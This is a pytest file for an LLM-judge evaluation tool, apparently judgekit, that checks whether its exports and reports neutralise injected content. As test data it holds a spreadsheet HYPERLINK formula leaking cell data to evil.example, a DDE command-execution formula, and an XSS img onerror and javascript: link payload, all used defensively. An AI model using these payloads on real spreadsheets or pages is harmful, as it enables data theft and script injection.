"""Issue 28, injection and honesty of records: what a judge's reply, a name or a server can smuggle
into the files and tables judgekit writes, and what it must record faithfully."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import run_dirs
from conftest import run_judgekit
from servers import Reply, ScriptedServer

from judgekit.data import load_dataset
from judgekit.report.export import read_export
from judgekit.runs.run_dir import read_run

BUNDLED = load_dataset("judgekit/bundled").examples

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted"]


def _run_with_raws(tmp_path, raws):
    """A one-order run whose every verdict is invalid, keeping ``raws[i]`` as its raw text."""
    examples = run_dirs.pairs(len(raws), gold="a", prefix="e", instruction="i", response_a="a", response_b="b")
    return run_dirs.pairwise_run(tmp_path / "run", [(None,)] * len(raws), examples=examples,
                                 raws=lambda i, order: raws[i], judge="mock:reply", protocol="p", dataset="d",
                                 complete=False)


def test_csv_export_neutralises_formulas_and_reads_back_the_same_text(tmp_path, monkeypatch, capsys):
    run = _run_with_raws(tmp_path, FORMULAS)
    code, _, err = run_judgekit(monkeypatch, capsys, "export", run, "--out", tmp_path / "v.csv")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO((tmp_path / "v.csv").read_bytes().decode("utf-8"), newline="")))
    assert [r["raw"] for r in rows] == ["'" + f for f in FORMULAS]  # a spreadsheet shows them as text
    assert all(not r[c] or r[c][0] not in "=+-@\t\r" for r in rows for c in r)
    assert list(read_export(tmp_path / "v.csv")["raw"]) == FORMULAS
    code, out, _ = run_judgekit(monkeypatch, capsys, "export", run)  # stdout too
    assert code == 0 and "\n" + str(run) in out and "'=HYPERLINK(" in out


HOSTILE_NAME = "<img src=x onerror=alert(1)> | [click](javascript:alert(2)) \\| `x`\nnext line"


def test_markdown_tables_show_names_as_text(tmp_path, monkeypatch, capsys):
    run = _run_with_raws(tmp_path, ["Output (a)", "Output (b)"])
    manifest = json.loads((run / "manifest.json").read_text())
    manifest["judge"] = manifest["protocol"] = HOSTILE_NAME
    (run / "manifest.json").write_text(json.dumps(manifest))
    for command in ("report", "compare"):
        code, out, err = run_judgekit(monkeypatch, capsys, command, run, "--format", "markdown")
        assert code == 0, err
        assert "<img" not in out and "[click](" not in out and "\nnext line" not in out
        assert "&lt;img src=x onerror=alert(1)&gt;" in out
        for table in out.split("### ")[1:]:
            rows = [line for line in table.splitlines() if line.startswith("|")]
            widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}  # unescaped bars: the columns
            assert len(widths) == 1, table


def test_an_empty_reply_keeps_its_finish_reason_as_the_invalid_reason(tmp_path, monkeypatch, capsys):
    filtered = BUNDLED[1].response_a

    def answer(call):
        return Reply("", finish_reason="content_filter") if filtered in call.prompt else "Output (a)"

    with ScriptedServer(answer=answer) as server:
        code, _, err = run_judgekit(monkeypatch, capsys, "run", "--judge", "openai:judge", "--base-url",
                                    server.openai_url, "--protocol", "llmbar/vanilla", "--dataset", "judgekit/bundled",
                                    "--limit", "3", "--out", tmp_path / "run", "--quiet")
    assert code == 0, err
    reasons = [v.invalid_reason for v in read_run(tmp_path / "run").verdicts]
    assert reasons == [None, "content_filter", None]


@pytest.mark.parametrize("tokens", [(-5, 10**12), (10**12, -1)], ids=["negative in, huge out", "huge in, negative out"])
def test_server_reported_usage_is_bounded_by_what_was_asked(tmp_path, monkeypatch, capsys, tokens):
    with ScriptedServer(answer=lambda call: Reply("Output (a)", tokens=tokens)) as server:
        code, _, err = run_judgekit(monkeypatch, capsys, "run", "--judge", "openai:gpt-4o-mini", "--base-url",
                                    server.openai_url, "--protocol", "llmbar/vanilla", "--dataset", "judgekit/bundled",
                                    "--limit", "2", "--out", tmp_path / "run", "--quiet")
    assert code == 0, err
    run = read_run(tmp_path / "run")
    prompt_bytes = max(len(e.instruction.encode()) + len(e.response_a.encode()) + len(e.response_b.encode())
                       for e in BUNDLED[:2])
    for verdict in run.verdicts:
        # two calls: texts, template, overhead
        assert 0 <= verdict.usage.tokens_in <= 2 * (prompt_bytes + 2_000 + 10_000)
        assert 0 <= verdict.usage.tokens_out <= 2 * 16  # llmbar/vanilla asks for 16 tokens a call
    assert run.manifest.usage.cost_usd < 0.01


@pytest.mark.parametrize("name,spec_id", [("mine.yaml", "llmbar/vanilla"), ("decompose-critique.yaml", None)])
def test_a_user_spec_cannot_take_a_built_in_protocols_id(tmp_path, name, spec_id):
    from judgekit.errors import BadInput
    from judgekit.protocols import load_protocol

    spec = {"description": "mine", "citation": "none", "strategy": "pairwise",
            "templates": {"compare": "{{ output_1 }} {{ output_2 }}"}, **({"id": spec_id} if spec_id else {})}
    path = tmp_path / name
    path.write_text(json.dumps(spec))
    taken = spec_id or "decompose-critique"
    with pytest.raises(BadInput, match=f"{name}: key 'id': '{taken}' is a built-in protocol's id"):
        load_protocol(path)


def test_a_user_probe_cannot_take_a_built_in_probes_id(tmp_path):
    from judgekit.errors import BadInput
    from judgekit.runs.probes import load_probe

    path = tmp_path / "mine.yaml"
    path.write_text(json.dumps({"id": "verbosity", "description": "d", "citation": "c", "template": "{{ response }}!"}))
    with pytest.raises(BadInput, match="mine.yaml: key 'id': 'verbosity' is a built-in probe's id"):
        load_probe(path)


def test_a_reply_holding_half_a_surrogate_pair_is_stored(tmp_path, monkeypatch, capsys):
    with ScriptedServer(answer=lambda call: "Output (a) \ud800") as server:
        code, _, err = run_judgekit(monkeypatch, capsys, "run", "--judge", "openai:judge", "--base-url",
                                    server.openai_url, "--protocol", "llmbar/vanilla", "--dataset", "judgekit/bundled",
                                    "--limit", "1", "--out", tmp_path / "run", "--quiet")
    assert code == 0, err
    assert read_run(tmp_path / "run").verdicts[0].orders[0].raw == "Output (a) \ufffd"
